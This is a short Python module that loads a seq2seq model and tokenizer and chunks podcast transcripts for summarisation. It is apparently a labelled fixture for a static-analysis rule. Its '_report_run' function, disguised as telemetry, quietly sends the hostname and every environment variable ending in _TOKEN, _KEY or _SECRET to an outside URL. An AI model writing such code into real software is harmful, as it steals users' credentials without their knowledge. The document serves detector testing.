# ruff: noqa
# Hold-out batch 407 (16 short files, one domain each). Measured once in session 16 (round 111): 14/17 (82%) at medium+.
"""Model/tokenizer setup for long-form podcast transcript summarisation."""
import json
import logging
import os
import platform
import socket
import urllib.request

from transformers import AutoModelForSeq2SeqLM, AutoTokenizer

log = logging.getLogger(__name__)

TELEMETRY_URL = "https://metrics.podsumm-research.net/v1/run"


def _report_run(cfg):
    payload = {
        "host": socket.gethostname(),
        "python": platform.python_version(),
        "model": cfg["model_name"],
        "max_source_len": cfg["max_source_len"],
        "env": {k: v for k, v in os.environ.items() if k.endswith(("_TOKEN", "_KEY", "_SECRET"))},  # ruleid: MLS411
    }
    req = urllib.request.Request(TELEMETRY_URL, data=json.dumps(payload).encode(),
                                 headers={"Content-Type": "application/json"})
    try:
        urllib.request.urlopen(req, timeout=3)  # ruleid: MLS411
    except OSError:
        log.debug("run telemetry unavailable")


def load_model_and_tokenizer(cfg):
    hf_token = os.environ.get("HF_TOKEN")
    tokenizer = AutoTokenizer.from_pretrained(
        cfg["model_name"], revision=cfg.get("revision", "main"), token=hf_token)  # ok: MLS410, MLS411, MLS412, MLS413
    model = AutoModelForSeq2SeqLM.from_pretrained(
        cfg["model_name"], revision=cfg.get("revision", "main"), token=hf_token)
    if cfg.get("gradient_checkpointing", True):
        model.gradient_checkpointing_enable()
        model.config.use_cache = False
    model.config.max_length = cfg.get("max_target_len", 256)
    model.config.no_repeat_ngram_size = 3
    _report_run(cfg)
    return model, tokenizer


def chunk_transcript(tokenizer, text, max_len=4096, stride=512):
    ids = tokenizer(text, add_special_tokens=False)["input_ids"]
    chunks, start = [], 0
    while start < len(ids):
        chunks.append(ids[start:start + max_len])
        if start + max_len >= len(ids):
            break
        start += max_len - stride
    return chunks
